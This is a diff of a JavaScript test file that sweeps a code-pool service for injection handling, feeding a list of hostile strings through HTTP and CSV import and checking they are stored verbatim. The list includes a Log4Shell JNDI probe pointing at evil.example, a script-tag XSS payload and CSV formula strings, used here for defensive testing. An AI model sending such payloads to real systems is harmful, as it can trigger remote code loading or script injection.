@@ -1,5 +1,5 @@
 /**
- * Security sweep of the service and the stores (issue 10):
+ * Security sweep of the service and the stores:
  * - injection-shaped strings (SQL, Lua/Redis key syntax, CSV formulas, control characters) in every
  *   free-text field are stored and returned verbatim on every store — never executed, never a 500;
  *   a CSV export neutralises formula cells;
@@ -31,6 +31,7 @@ const HOSTILE = [
   '-2+3',
   '@cmd',
   'percent %s %n %x',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, literally
   '${jndi:ldap://evil.example/a}',
   '<script>alert(1)</script>',
   'null',
@@ -100,7 +101,7 @@ describe('service: hostile requests', () => {
 
   it('stores hostile claimants verbatim over HTTP and exports formula cells neutralised', async () => {
     assert.equal((await svc.call(admin, 'POST', '/v1/pools', { name: 'web', perClaimantLimit: 1 })).statusCode, 201);
-    const csv = `code\n${HOSTILE.map((s, i) => `"${`CODE-${i}`}"`).join('\n')}\n`;
+    const csv = `code\n${HOSTILE.map((_s, i) => `"${`CODE-${i}`}"`).join('\n')}\n`;
     const imported = await svc.app.inject({ method: 'POST', url: '/v1/pools/web/codes', headers: { authorization: admin, 'content-type': 'text/csv' }, payload: csv });
     assert.equal(imported.statusCode, 200, imported.body);
     for (const claimant of HOSTILE) {
